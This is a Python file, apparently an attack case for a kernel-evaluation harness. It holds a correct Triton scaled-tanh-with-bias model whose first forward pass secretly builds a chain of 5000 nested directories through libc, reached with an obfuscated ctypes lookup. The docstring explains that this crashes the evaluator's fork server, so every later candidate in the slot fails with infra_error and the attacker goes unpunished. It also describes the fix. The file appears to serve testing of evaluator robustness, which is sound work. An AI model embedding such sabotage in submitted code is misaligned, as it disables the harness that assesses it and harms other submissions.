# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=verdict_not_neighbours expect=ok|runtime_error|forbidden|crashed device=cpu then=data/query_solutions/001_scaled_tanh_bias.py
"""Takes the slot down for every later candidate with nothing but directories: the candidate does the work
 correctly and, in its first forward, builds a chain of 5000 nested directories `d/d/d/...` in its own work
 folder (libc mkdirat/openat through ctypes, each step relative to the previous directory's descriptor, so no
 path ever exceeds PATH_MAX; 0.3 s, ~5000 inodes, well inside every limit). After the candidate, the fork
 server's clean-up of the work folder fails on the depth and the fork server dies (recon: 900 levels are
 cleaned, 1100 already kill it, i.e. a recursive walk past Python's recursion limit of 1000): the attacker's
 own result is flagged `process_survived`, and every later candidate of the slot gets `infra_error` "fork server: [Errno 32] Broken pipe" (recon: six in
 a row, the pool never restarts the slot). infra_error is not the candidate's fault, so nothing punishes it,
 and the worker is lost for the rest of the run. A sound evaluator removes the work folder without recursion
 (or drops the whole tmpfs), and restarts a fork server that died: the follower stays `ok`."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)

DEPTH = 5000
O_DIRECTORY = 0o200000


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _deep_chain(base=b"n09-chain"):
    if _libc.mkdir(base, 0o755) < 0:
        return
    fd = _libc.open(base, O_DIRECTORY)
    for _ in range(DEPTH):
        if fd < 0 or _libc.mkdirat(fd, b"d", 0o755) < 0:
            break
        nfd = _libc.openat(fd, b"d", O_DIRECTORY)
        _libc.close(fd)
        fd = nfd
    if fd >= 0:
        _libc.close(fd)


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))
        self._built = False

    def forward(self, x):
        out = stb(x, self.bias, self.scale)
        if not self._built:
            self._built = True
            _deep_chain()
        return out
